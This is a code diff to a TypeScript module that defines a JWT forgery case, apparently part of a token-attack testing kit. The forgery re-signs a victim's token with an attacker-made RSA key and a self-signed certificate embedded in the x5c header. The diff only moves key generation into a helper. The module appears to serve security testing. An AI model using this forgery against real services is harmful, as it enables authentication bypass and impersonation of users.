@@ -1,5 +1,5 @@
-import { generateKeyPairSync } from 'node:crypto'
 import { mint, readToken } from '../../kit/forge-token.ts'
+import { ownRsaPair } from '../../kit/own-keys.ts'
 import { selfSignedCertificate } from '../../kit/self-signed-certificate.ts'
 import { tokenAttack } from '../../kit/token-attack.ts'
 
@@ -16,14 +16,13 @@ export default tokenAttack({
   provenBy: 'trust-x5c',
   forge({ victim }) {
     const { header, payload } = readToken(victim.token)
-    const pair = generateKeyPairSync('rsa', { modulusLength: 2048 })
+    const pair = ownRsaPair()
     const certificate = selfSignedCertificate(pair)
-    const privateKey = pair.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
     const x5c = [certificate.toString('base64')]
     return [
       {
         name: 'RS256 with a self-signed certificate in x5c',
-        token: mint({ algorithm: 'RS256', privateKey }, { ...header, alg: 'RS256', x5c }, payload),
+        token: mint({ algorithm: 'RS256', privateKey: pair.privatePem }, { ...header, alg: 'RS256', x5c }, payload),
       },
     ]
   },
